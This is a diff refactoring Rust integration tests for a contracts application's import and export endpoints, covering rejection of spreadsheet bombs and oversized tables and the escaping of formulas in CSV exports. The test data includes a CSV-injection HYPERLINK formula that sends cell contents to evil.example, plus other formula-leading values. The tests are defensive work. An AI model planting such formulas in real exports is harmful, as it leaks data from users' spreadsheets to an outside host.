@@ -16,18 +16,17 @@ use shared::dto::contract::ContractStatus;
 use shared::dto::import::{ImportColumns, ImportReport};
 use shared::dto::organisation::OrganisationKind;
 use shared::dto::sync::SyncRecord;
-use tests::fixture::{ContractSpec, EnclaveSpec, date};
+use tests::dates::date;
+use tests::fixture::{ContractSpec, EnclaveSpec};
 use tests::records::inspection;
-use tests::{Backend, TestApp, assert_error, json, on_both_backends};
+use tests::world::{BREWERY as HOST, KOUTER as MWB};
+use tests::{Backend, TestApp, User, World, assert_error, json, on_both_backends};
 
 on_both_backends!(
     hostile_spreadsheets_are_refused_within_limits,
     csv_exports_never_carry_a_formula
 );
 
-const PW: &str = "a-long-test-password";
-const MWB: &str = "0123456749";
-const HOST: &str = "0200000043";
 /// The sheet's path inside an .xlsx written by rust_xlsxwriter.
 const SHEET: &str = "xl/worksheets/sheet1.xml";
 /// What the bombs unzip to: 1000 pieces of about 1 MiB.
@@ -173,16 +172,6 @@ fn peak_memory() -> u64 {
     kib * 1024
 }
 
-async fn post(app: &TestApp, token: &str, path: &str, body: Vec<u8>) -> reqwest::Response {
-    app.client
-        .post(format!("{}/api/imports/{path}", app.base_url))
-        .bearer_auth(token)
-        .body(body)
-        .send()
-        .await
-        .expect("import request")
-}
-
 /// Posts `body` while asking `/healthz` over and over: each health answer must come, and
 /// quickly, while the file is being read.
 async fn post_while_healthy(
@@ -222,21 +211,7 @@ async fn post_while_healthy(
 }
 
 async fn hostile_spreadsheets_are_refused_within_limits(backend: Backend) {
-    let app = TestApp::spawn(backend).await;
-    let f = app.fixture();
-    f.user("adam", PW, Role::Admin, &[]);
-    let mwb = f.organisation(
-        OrganisationKind::Maatwerkbedrijf,
-        "Atelier Kouter",
-        Some(MWB),
-    );
-    let host = f.organisation(
-        OrganisationKind::RegularCompany,
-        "Brouwerij Gent",
-        Some(HOST),
-    );
-    f.enclave(&mwb, &host, EnclaveSpec::default());
-    let adam = app.login("adam", PW).await.access_token;
+    let World { app, admin, .. } = World::new(backend).await;
 
     let files = [
         (
@@ -269,7 +244,7 @@ async fn hostile_spreadsheets_are_refused_within_limits(backend: Backend) {
     for (what, file, status, code) in &files {
         assert!(file.len() < 10 * 1024 * 1024, "{what} fits the body limit");
         for target in targets {
-            let res = post_while_healthy(&app, &adam, target, file.clone()).await;
+            let res = post_while_healthy(&app, &admin.token, target, file.clone()).await;
             assert_eq!(res.status(), *status, "{what} to {target}");
             assert_error(res, *status, code).await;
         }
@@ -288,7 +263,9 @@ async fn hostile_spreadsheets_are_refused_within_limits(backend: Backend) {
         "contracts/columns?format=csv",
     ] {
         assert_error(
-            post(&app, &adam, target, wide.clone().into_bytes()).await,
+            admin
+                .upload(&format!("/api/imports/{target}"), wide.clone().into_bytes())
+                .await,
             StatusCode::UNPROCESSABLE_ENTITY,
             "table_too_large",
         )
@@ -297,13 +274,17 @@ async fn hostile_spreadsheets_are_refused_within_limits(backend: Backend) {
 
     // The server kept serving: a normal file is read and imported.
     let columns: ImportColumns = json(
-        post(&app, &adam, "contracts/columns?format=csv", GOOD.into()).await,
+        admin
+            .upload("/api/imports/contracts/columns?format=csv", GOOD)
+            .await,
         StatusCode::OK,
     )
     .await;
     assert_eq!(columns.header.len(), 8);
     let report: ImportReport = json(
-        post(&app, &adam, "contracts?format=csv", GOOD.into()).await,
+        admin
+            .upload("/api/imports/contracts?format=csv", GOOD)
+            .await,
         StatusCode::OK,
     )
     .await;
@@ -313,9 +294,6 @@ async fn hostile_spreadsheets_are_refused_within_limits(backend: Backend) {
 async fn csv_exports_never_carry_a_formula(backend: Backend) {
     let app = TestApp::spawn(backend).await;
     let f = app.fixture();
-    f.user("adam", PW, Role::Admin, &[]);
-    f.user("rev", PW, Role::Reviewer, &[]);
-    f.user("ines", PW, Role::Inspector, &[]);
     const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")";
     const SUM: &str = "@SUM(1)";
     const SUM_OF: &str = "-2+3";
@@ -331,19 +309,19 @@ async fn csv_exports_never_carry_a_formula(backend: Backend) {
             ..ContractSpec::default()
         },
     );
-    let adam = app.login("adam", PW).await.access_token;
-    let rev = app.login("rev", PW).await.access_token;
-    let ines = app.login("ines", PW).await.access_token;
+    let adam = app.admin().await;
+    let rev = app.user("rev", Role::Reviewer, &[]).await;
     let pushed = app
-        .push(
-            &ines,
-            vec![SyncRecord::Inspection(Box::new(inspection(&enclave.id)))],
-        )
+        .inspector()
+        .await
+        .push(vec![SyncRecord::Inspection(Box::new(inspection(
+            &enclave.id,
+        )))])
         .await;
     assert_eq!(pushed.results.len(), 1);
 
-    let csv = async |path: &str, token: &str| -> Vec<Vec<String>> {
-        let res = app.get(path, token).await;
+    let csv = async |path: &str, user: &User| -> Vec<Vec<String>> {
+        let res = user.get(path).await;
         assert_eq!(res.status(), StatusCode::OK, "{path}");
         let text = res.text().await.unwrap();
         csv::ReaderBuilder::new()
@@ -355,12 +333,12 @@ async fn csv_exports_never_carry_a_formula(backend: Backend) {
             .collect()
     };
     let quoted = |cell: &str| format!("'{cell}");
-    for (path, token) in [
+    for (path, user) in [
         ("/api/contracts?format=csv", &adam),
         ("/api/reports/contracts?year=2024&format=csv", &adam),
         ("/api/inspections?format=csv", &rev),
     ] {
-        let rows = csv(path, token).await;
+        let rows = csv(path, user).await;
         assert!(rows.len() >= 2, "{path}: {rows:?}");
         let cells: Vec<&String> = rows[1..].iter().flatten().collect();
         assert!(cells.contains(&&quoted(LINK)), "{path}: {rows:?}");
@@ -376,7 +354,7 @@ async fn csv_exports_never_carry_a_formula(backend: Backend) {
     assert!(register[1].contains(&quoted(SUM_OF)), "{register:?}");
 
     // The XLSX export writes strings, which Excel never runs: they stay as they are.
-    let res = app.get("/api/contracts?format=xlsx", &adam).await;
+    let res = adam.get("/api/contracts?format=xlsx").await;
     let bytes = res.bytes().await.unwrap();
     let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
     let sheet = book.worksheet_range("Register").unwrap();
